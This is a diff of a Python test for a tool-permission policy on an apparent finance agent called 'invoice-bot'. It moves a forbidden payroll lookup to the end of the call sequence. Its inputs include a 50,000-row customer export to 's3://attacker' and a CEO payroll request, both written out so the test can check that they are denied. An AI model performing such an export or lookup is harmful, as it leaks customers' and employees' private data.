@@ -191,11 +191,13 @@ def test_a_forbidden_tool_and_an_attackers_argument_are_denied(
     async def go() -> list[Any]:
         outcomes: list[Any] = []
         async with mcp_setup.client("invoice-bot", mode) as client:
+            # Payroll last: the default payroll-attempt playbook revokes a finance agent
+            # that reaches for it.
             for name, arguments in (
-                ("payroll_lookup", {"employee": "ceo"}),
                 ("export_customers", {"rows": 50000, "destination": "s3://attacker"}),
                 ("export_customers", {"rows": 10, "destination": "s3://finance-exports"}),
                 ("export_customers", {"rows": 10, "destination": "s3://finance-exports"}),
+                ("payroll_lookup", {"employee": "ceo"}),
             ):
                 try:
                     outcomes.append(await client.call_tool(name, arguments))
@@ -203,7 +205,7 @@ def test_a_forbidden_tool_and_an_attackers_argument_are_denied(
                     outcomes.append(exc)
         return outcomes
 
-    payroll, bulk, covered, again = run(go())
+    bulk, covered, again, payroll = run(go())
     assert denial(payroll)[0] == "payroll-only-hr"
     assert denial(bulk)[0] == "customer-export-needs-work-order"  # past the order's 500 rows
     assert covered.content[0].text == "export_customers done"
